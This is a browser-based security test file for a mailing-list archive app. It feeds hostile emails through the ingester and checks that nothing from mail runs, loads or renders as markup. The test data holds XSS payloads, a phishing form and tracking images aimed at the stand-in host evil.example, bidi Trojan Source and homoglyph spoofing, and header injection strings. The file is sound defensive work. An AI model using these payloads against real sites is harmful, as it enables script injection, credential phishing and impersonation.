// A corpus of hostile mails (written here, ingested by the real ingester) opened page by page in
// a real browser (Debian's chromium through playwright-core): nothing from mail may run or load.
//
// What counts as a failure:
//   - any script runs: a dialog opens, or the window.__pwned canary is set;
//   - any request leaves 127.0.0.1/localhost (every request is routed through a check; others
//     are aborted and recorded); CSP violation reports are allowed (they are what blocking looks
//     like) but recorded;
//   - markup from mail becomes elements (script, iframe, object, embed, form, meta, base, svg,
//     img, style, on* attributes, javascript:/data: links) inside the page's main content;
//   - bidi controls (U+202A-U+202E, U+2066-U+2069) from names and subjects reach the page text
//     unmarked: they are shown as "‹U+202E›" (app/_lib/format.ts) and the elements isolated;
//   - C0 controls (NUL, ESC) from subjects reach the page text: they are shown as ␀, ␛;
//   - the page grows sideways from a huge unbroken line;
//   - raw is not text/plain with nosniff.
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { createTestDb } from "../test/db";
import { ingestSource } from "../ingest/pipeline";
import { startApp, type AppServer } from "../ingest/app-server";
import { hasChromium, launchChromium } from "./browser";
import { encodeSegment as seg } from "../app/_lib/urls";

const LIST = "hostile";
const D = "evil.example";

const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64");
/** an RFC 2047 encoded word, so any Unicode (and control characters) reach the parsed header */
const enc = (s: string) => `=?UTF-8?B?${b64(s)}?=`;

interface Mail {
  id: string;
  from: string;
  subject: string;
  date: string;
  inReplyTo?: string;
  headers?: string[];
  /** the whole MIME part after the headers above, starting with its own Content-Type lines */
  mime?: string;
  body?: string;
}

const PWN = `window.__pwned = 1; alert(1)`;

const MAILS: Mail[] = [
  {
    id: `markup-1@${D}`,
    from: `${enc(`<img src=x onerror="${PWN}">Mallory`)} <mallory@${D}>`,
    subject: `<script>${PWN}</script> <svg onload="${PWN}"> markup in the subject`,
    date: "Mon, 1 Jul 2024 10:00:00 +0000",
    body: [
      `Plain text with markup: <script>${PWN}</script>`,
      `<img src="http://${D}/track.png" onerror="${PWN}">`,
      `<iframe src="http://${D}/frame"></iframe> <object data="http://${D}/x.swf"></object>`,
      `</pre></div></main><script>${PWN}</script>`,
      `<a href="javascript:${PWN}">click me</a> and javascript:alert(2) and JaVaScRiPt:alert(3)`,
      `data:text/html;base64,${b64(`<script>${PWN}</script>`)} and <a href="data:text/html,<script>alert(4)</script>">data</a>`,
      `vbscript:msgbox(1) and http://${D}/ordinary-link?x=<script>alert(5)</script>`,
      `<style>body { display: none }</style> <meta http-equiv="refresh" content="0;url=http://${D}/">`,
      `<base href="http://${D}/"> <form action="http://${D}/steal"><input name=pw></form>`,
      `<svg><script>${PWN}</script></svg> <math><mtext><img src=x onerror="${PWN}"></mtext></math>`,
      `{{constructor.constructor('${PWN}')()}} \${alert(6)} <% alert(7) %>`,
    ].join("\n"),
  },
  {
    id: `html-only-1@${D}`,
    from: `Html Sender <html@${D}>`,
    subject: "HTML-only part with style, meta refresh, base and form",
    date: "Mon, 1 Jul 2024 10:01:00 +0000",
    mime: [
      "Content-Type: text/html; charset=utf-8",
      "",
      "<html><head>",
      `<meta http-equiv="refresh" content="0;url=http://${D}/refresh">`,
      `<base href="http://${D}/">`,
      `<link rel="stylesheet" href="http://${D}/x.css">`,
      `<style>@import url(http://${D}/import.css); body { background: url(http://${D}/bg.png) } * { display: none !important }</style>`,
      `<script src="http://${D}/x.js"></script><script>${PWN}</script>`,
      "</head><body onload=\"" + PWN + "\">",
      `<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(http://${D}/overlay.png)">Overlay</p>`,
      `<a href="javascript:${PWN}">javascript link</a> <a href="data:text/html,<script>${PWN}</script>">data link</a>`,
      `<img src="http://${D}/pixel.gif" width=1 height=1><img src=x onerror="${PWN}">`,
      `<form action="http://${D}/phish" method="post"><input type="password" name="pw"><button>Sign in</button></form>`,
      `<iframe srcdoc="<script>${PWN}</script>"></iframe><embed src="http://${D}/e.swf">`,
      `<svg xmlns="http://www.w3.org/2000/svg"><script>${PWN}</script><image href="http://${D}/svg.png"/></svg>`,
      `<div style="width:expression(alert(8))">IE expression</div>`,
      "<p>The visible text of the HTML part.</p>",
      "</body></html>",
    ].join("\n"),
  },
  {
    id: `alternative-1@${D}`,
    from: `Alt Sender <alt@${D}>`,
    subject: "multipart/alternative with a hostile HTML twin and an SVG attachment",
    date: "Mon, 1 Jul 2024 10:02:00 +0000",
    mime: [
      'Content-Type: multipart/mixed; boundary="outer"',
      "",
      "--outer",
      'Content-Type: multipart/alternative; boundary="alt"',
      "",
      "--alt",
      "Content-Type: text/plain; charset=utf-8",
      "",
      "The plain text twin.",
      "--alt",
      "Content-Type: text/html; charset=utf-8",
      "",
      `<p>HTML twin <script>${PWN}</script><img src="http://${D}/alt.png"></p>`,
      "--alt--",
      "--outer",
      'Content-Type: image/svg+xml; name="logo.svg"',
      'Content-Disposition: attachment; filename="<img src=x onerror=alert(9)>.svg"',
      "",
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${PWN}"><script>${PWN}</script></svg>`,
      "--outer",
      'Content-Type: text/html; name="page.html"',
      'Content-Disposition: attachment; filename="page.html"',
      "",
      `<script>${PWN}</script>`,
      "--outer--",
    ].join("\n"),
  },
  {
    id: `bidi-1@${D}`,
    from: `${enc("Trusted \u202EnomiS\u202C Admin")} <admin@${D}>`,
    subject: enc("[PATCH] fix \u202Egnp.exe\u202C and \u2067isolate\u2069 here"),
    date: "Mon, 1 Jul 2024 10:03:00 +0000",
    body: "Bidi in the body too: \u202Eevil\u202C and an Arabic name: \u0645\u062D\u0645\u062F.\n",
  },
  {
    id: `confusable-1@${D}`,
    // Cyrillic і and о in a famous name, a Greek question mark, a fullwidth @
    from: `${enc("L\u0456nus T\u043Ervalds")} <torvalds@${D}>`,
    subject: enc("Re: [GIT PULL] \u0440\u0430\u0443\u0440\u0430l.com login\u037E please merge"),
    date: "Mon, 1 Jul 2024 10:04:00 +0000",
    inReplyTo: `bidi-1@${D}`,
    body: "Confusables: \u0440\u0430\u0443\u0440\u0430l.com, admin\uFF20example.org, zero\u200Bwidth, \uFEFFBOM.\n",
  },
  {
    id: `controls-1@${D}`,
    from: `${enc("Nul\u0000Esc\u001B[31mRed")} <ctl@${D}>`,
    subject: enc("control \u0000 NUL \u001B[2J ESC \u0007 BEL \u007F DEL"),
    date: "Mon, 1 Jul 2024 10:05:00 +0000",
    body: "Body with NUL \u0000 and ESC \u001B[31m red \u001B[0m and a bell \u0007.\n",
  },
  {
    id: `long-line-1@${D}`,
    from: `Long Line <long@${D}>`,
    subject: "A".repeat(600),
    date: "Mon, 1 Jul 2024 10:06:00 +0000",
    body: "x".repeat(200_000) + "\n" + ("<b>" + "y".repeat(5000) + "</b>").repeat(4) + "\n",
  },
  {
    id: `series-0@${D}`,
    from: `Mallory <mallory@${D}>`,
    subject: `[PATCH 0/1] widget: <script>${PWN}</script> cover`,
    date: "Mon, 1 Jul 2024 10:07:00 +0000",
    body: `Cover letter with <img src=x onerror="${PWN}"> and \u202Ereversed\u202C text.\n\nMallory (1):\n  widget: hostile diff\n`,
  },
  {
    id: `series-1@${D}`,
    from: `Mallory <mallory@${D}>`,
    subject: enc(`[PATCH 1/1] widget: hostile \u202Ediff\u202C <img src=x onerror="${PWN}">`),
    date: "Mon, 1 Jul 2024 10:07:01 +0000",
    inReplyTo: `series-0@${D}`,
    body: [
      `The commit message has <script>${PWN}</script> in it.`,
      "",
      `Signed-off-by: Mallory <mallory@${D}>`,
      "---",
      " drivers/widget/widget.c | 3 ++-",
      " 1 file changed, 2 insertions(+), 1 deletion(-)",
      "",
      "diff --git a/drivers/widget/widget.c b/drivers/widget/widget.c",
      "index 1111111..2222222 100644",
      "--- a/drivers/widget/widget.c",
      "+++ b/drivers/widget/widget.c",
      `@@ -1,3 +1,4 @@ <script>${PWN}</script>`,
      " int a;",
      "-int b;",
      `+char *s = "<script>${PWN}</script>";`,
      `+/* \u202E } if (is_admin) { \u2066 */ int c; // </pre><img src=x onerror="${PWN}">`,
      " int d;",
      "-- ",
      "2.43.0",
      "",
    ].join("\n"),
  },
  {
    id: `header-injection-1@${D}`,
    from: `${enc("Eve\r\nX-Injected: yes")} <eve@${D}>`,
    subject: enc("subject\r\n\r\n<script>alert(10)</script>"),
    date: "Mon, 1 Jul 2024 10:08:00 +0000",
    headers: [`X-Evil: <script>${PWN}</script>`, `List-Unsubscribe: <javascript:${PWN}>`],
    body: "Header injection attempts.\n",
  },
];

function rawMail(m: Mail): string {
  const lines = [`From: ${m.from}`, `To: ${LIST}@lists.example`, `Subject: ${m.subject}`, `Date: ${m.date}`, `Message-ID: <${m.id}>`, "MIME-Version: 1.0"];
  if (m.inReplyTo) lines.push(`In-Reply-To: <${m.inReplyTo}>`, `References: <${m.inReplyTo}>`);
  lines.push(...(m.headers ?? []));
  if (m.mime) return lines.join("\n") + "\n" + m.mime + "\n";
  return lines.join("\n") + "\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n" + m.body!;
}

function mbox(mails: Mail[]): string {
  return mails.map((m) => `From mboxrd@z Thu Jan  1 00:00:00 1970\n${rawMail(m).replace(/^(>*From )/gm, ">$1")}\n`).join("");
}

const BIDI = /[\u202A-\u202E\u2066-\u2069]/;

let db: Awaited<ReturnType<typeof createTestDb>>;
let app: AppServer;
let dir: string;

beforeAll(async () => {
  db = await createTestDb();
  dir = fs.mkdtempSync(path.join(os.tmpdir(), "patchlore-hostile-"));
  const file = path.join(dir, "hostile.mbox");
  fs.writeFileSync(file, mbox(MAILS));
  const s = await ingestSource(db, file, { list: LIST, workers: 0 });
  expect(s.inserted + s.skipped).toBe(MAILS.length);
  expect(s.inserted).toBe(MAILS.length);
  app = await startApp(db.url);
});

afterAll(async () => {
  await app?.stop();
  await db?.drop();
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

describe("raw messages over HTTP", () => {
  it("are text/plain with nosniff, inline, for every hostile mail", async () => {
    for (const m of MAILS) {
      const r = await fetch(`${app.url}/${LIST}/${seg(m.id)}/raw`);
      expect(r.status, m.id).toBe(200);
      expect(r.headers.get("content-type"), m.id).toMatch(/^text\/plain(; charset=utf-8)?$/);
      expect(r.headers.get("x-content-type-options"), m.id).toBe("nosniff");
      expect(r.headers.get("content-disposition"), m.id).toBe("inline");
      await r.arrayBuffer();
    }
  });
});

describe.skipIf(!hasChromium)("hostile mail in the browser", () => {
  let browser: Browser;
  let ctx: BrowserContext;
  const dialogs: string[] = [];
  const external: string[] = [];
  const violations: string[] = [];
  const visited: string[] = [];

  beforeAll(async () => {
    browser = await launchChromium();
    ctx = await browser.newContext({ viewport: { width: 1200, height: 900 } });
    // every request of every page goes through here: only this machine may be asked
    await ctx.route("**/*", async (route) => {
      const u = new URL(route.request().url());
      if ((u.protocol === "http:" || u.protocol === "https:") && !["127.0.0.1", "localhost", "[::1]"].includes(u.hostname)) {
        external.push(u.href);
        await route.abort("blockedbyclient");
        return;
      }
      await route.continue();
    });
    // runs before any page script (through the DevTools protocol, so the page's CSP does not apply)
    await ctx.addInitScript(() => {
      const w = window as unknown as { __violations: string[] };
      w.__violations = [];
      document.addEventListener("securitypolicyviolation", (e) => w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
    });
  });

  afterAll(async () => {
    await browser?.close();
  });

  async function visit(p: string, expectStatus = 200): Promise<Page> {
    const page = await ctx.newPage();
    page.on("dialog", (d) => {
      dialogs.push(`${p}: ${d.message()}`);
      void d.dismiss();
    });
    page.on("popup", (pp) => external.push(`popup from ${p}: ${pp.url()}`));
    const r = await page.goto(app.url + p, { waitUntil: "load" });
    expect(r?.status(), p).toBe(expectStatus);
    // give anything deferred (meta refresh, onload, timers, lazy images) the chance to run
    await page.waitForTimeout(250);
    expect(new URL(page.url()).pathname, `${p} navigated away`).toBe(new URL(app.url + p).pathname);
    visited.push(p);
    const state = await page.evaluate(() => ({
      pwned: (window as unknown as { __pwned?: unknown }).__pwned,
      violations: (window as unknown as { __violations?: string[] }).__violations ?? [],
    }));
    expect(state.pwned, `${p}: a script from mail ran`).toBeUndefined();
    violations.push(...state.violations.map((v) => `${p}: ${v}`));
    return page;
  }

  /** Nothing in <main> that mail could have turned into markup. */
  async function expectInert(page: Page, p: string) {
    const found = await page.evaluate(() => {
      const main = document.querySelector("main")!;
      const bad: string[] = [];
      for (const el of Array.from(main.querySelectorAll("*"))) {
        const tag = el.tagName.toLowerCase();
        if (["script", "iframe", "object", "embed", "meta", "base", "style", "link", "svg", "math", "img", "video", "audio", "frame", "frameset", "applet"].includes(tag)) bad.push(`<${tag}>`);
        for (const a of Array.from(el.attributes)) {
          if (/^on/i.test(a.name)) bad.push(`${tag}[${a.name}]`);
          if (a.name === "style") bad.push(`${tag}[style]`);
          if (["href", "src", "action", "formaction", "data", "srcdoc"].includes(a.name) && /^\s*(javascript|data|vbscript):/i.test(a.value)) bad.push(`${tag}[${a.name}=${a.value.slice(0, 30)}]`);
        }
        if (tag === "form" && !["/logout", "/search", "/login", "/account/tokens"].includes(el.getAttribute("action") ?? "")) bad.push(`<form action=${el.getAttribute("action")}>`);
        if (tag === "a") {
          const href = el.getAttribute("href") ?? "";
          // links from mail prose may point anywhere over http(s); that is a link, not a request
          if (!/^(\/|#|https?:\/\/|mailto:)/i.test(href)) bad.push(`a[href=${href.slice(0, 40)}]`);
        }
      }
      // nothing was injected into <head> either
      for (const el of Array.from(document.head.querySelectorAll("meta[http-equiv], base"))) bad.push(`head ${el.outerHTML.slice(0, 60)}`);
      return bad;
    });
    expect(found, p).toEqual([]);
  }

  async function mainText(page: Page): Promise<string> {
    return page.locator("main").innerText();
  }

  it("the home, list, series index and people pages", async () => {
    for (const p of ["/", `/${LIST}/`, `/series/?list=${LIST}`, "/people/"]) {
      const page = await visit(p);
      await expectInert(page, p);
      const text = await mainText(page);
      expect(text, p).not.toMatch(BIDI);
      expect(text, p).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/);
      await page.close();
    }
    const list = await visit(`/${LIST}/`);
    const subjects = await list.locator("table.threads td.subject a").allInnerTexts();
    expect(subjects).toContain(`<script>${PWN}</script> <svg onload="${PWN}"> markup in the subject`);
    expect(subjects).toContain("[PATCH] fix \u2039U+202E\u203Agnp.exe\u2039U+202C\u203A and \u2039U+2067\u203Aisolate\u2039U+2069\u203A here");
    // the isolation around subjects and names
    expect(await list.locator("table.threads td.subject a").first().evaluate((e) => getComputedStyle(e).unicodeBidi)).toBe("isolate");
    expect(await list.locator("table.threads td.from").first().evaluate((e) => getComputedStyle(e).unicodeBidi)).toBe("isolate");
    await list.close();
  });

  it("every message page, both thread views and the raw message", async () => {
    for (const m of MAILS) {
      for (const p of [`/${LIST}/${seg(m.id)}/`, `/${LIST}/${seg(m.id)}/T/`, `/${LIST}/${seg(m.id)}/t/`]) {
        const page = await visit(p);
        await expectInert(page, p);
        const text = await mainText(page);
        // subjects and names: bidi controls marked, never obeyed
        const heads = (await page.locator(".msg-subject, .page-title, dl.hdrs dd, .hdrs-compact .from, .tree .tn").allInnerTexts()).join("\n");
        expect(heads, p).not.toMatch(BIDI);
        expect(heads, p).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/);
        expect(await page.title(), p).not.toMatch(BIDI);
        expect(text.length, p).toBeGreaterThan(0);
        // the page does not grow sideways (long lines wrap, diffs scroll inside their box)
        const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
        expect(overflow, `${p} is wider than the window`).toBeLessThanOrEqual(1);
        await page.close();
      }
      const raw = await visit(`/${LIST}/${seg(m.id)}/raw`);
      expect(await raw.evaluate(() => document.contentType)).toBe("text/plain");
      expect(await raw.evaluate(() => document.querySelectorAll("script, img, iframe, style, svg").length)).toBe(0);
      await raw.close();
    }
  });

  it("shows the hostile text as text", async () => {
    const page = await visit(`/${LIST}/${seg(`markup-1@${D}`)}/`);
    const body = await page.locator(".body").innerText();
    expect(body).toContain(`<script>${PWN}</script>`);
    expect(body).toContain(`<a href="javascript:${PWN}">click me</a>`);
    expect(body).toContain(`<meta http-equiv="refresh"`);
    expect(await page.locator("dl.hdrs").innerText()).toContain(`<img src=x onerror="${PWN}">Mallory <mallory@${D}>`);
    // only the http link of the prose became a link
    const hrefs = await page.locator(".body a").evaluateAll((as) => as.map((a) => a.getAttribute("href")));
    expect(hrefs.every((h) => /^https?:\/\//.test(h ?? ""))).toBe(true);
    await page.close();

    const bidi = await visit(`/${LIST}/${seg(`bidi-1@${D}`)}/`);
    expect(await bidi.locator("h1.msg-subject").innerText()).toBe("[PATCH] fix \u2039U+202E\u203Agnp.exe\u2039U+202C\u203A and \u2039U+2067\u203Aisolate\u2039U+2069\u203A here");
    expect(await bidi.locator("dl.hdrs").innerText()).toContain(`Trusted \u2039U+202E\u203AnomiS\u2039U+202C\u203A Admin <admin@${D}>`);
    expect(await bidi.locator("h1.msg-subject").evaluate((e) => getComputedStyle(e).unicodeBidi)).toBe("isolate");
    await bidi.close();

    // confusables stay as they are, with the address beside the name
    const conf = await visit(`/${LIST}/${seg(`confusable-1@${D}`)}/`);
    expect(await conf.locator("dl.hdrs").innerText()).toContain(`L\u0456nus T\u043Ervalds <torvalds@${D}>`);
    await conf.close();

    const ctl = await visit(`/${LIST}/${seg(`controls-1@${D}`)}/`);
    const subject = await ctl.locator("h1.msg-subject").innerText();
    expect(subject).toContain("\u241B[2J ESC");
    expect(subject).toContain("\u2421 DEL");
    await ctl.close();
  });

  it("the patch page, the series page and the series mbox of a hostile series", async () => {
    const patchPath = `/${LIST}/${seg(`series-1@${D}`)}/patch`;
    const patch = await visit(patchPath);
    await expectInert(patch, patchPath);
    const diffText = await patch.locator("main").innerText();
    expect(diffText).toContain(`char *s = "<script>${PWN}</script>";`);
    // the Trojan Source line is shown, bidi characters and all: it is code under review
    expect(await patch.locator("h1").innerText()).not.toMatch(BIDI);
    await patch.close();
    const series = (await (await fetch(`${app.url}/api/series?list=${LIST}`)).json()) as { series: { items: { key: string; versionLineId?: number | null }[] } };
    expect(series.series.items.length).toBeGreaterThan(0);
    for (const s of series.series.items) {
      const p = `/series/${seg(s.key)}/`;
      const page = await visit(p);
      await expectInert(page, p);
      expect(await page.locator("main").innerText()).toContain("cover");
      await page.close();
      const mbox = await fetch(`${app.url}/series/${seg(s.key)}/mbox`);
      expect(mbox.headers.get("content-disposition")).toMatch(/^attachment; filename=[A-Za-z0-9._-]+$/);
      expect(mbox.headers.get("x-content-type-options")).toBe("nosniff");
    }
  });

  it("left no request for another host, no dialog, and no popup", () => {
    expect(visited.length).toBeGreaterThan(30);
    expect(external).toEqual([]);
    expect(dialogs).toEqual([]);
    // CSP reports are allowed (blocking is what they report); nothing above executed
    if (violations.length) console.info(`CSP violations reported (blocked, allowed):\n${violations.join("\n")}`);
  });
});
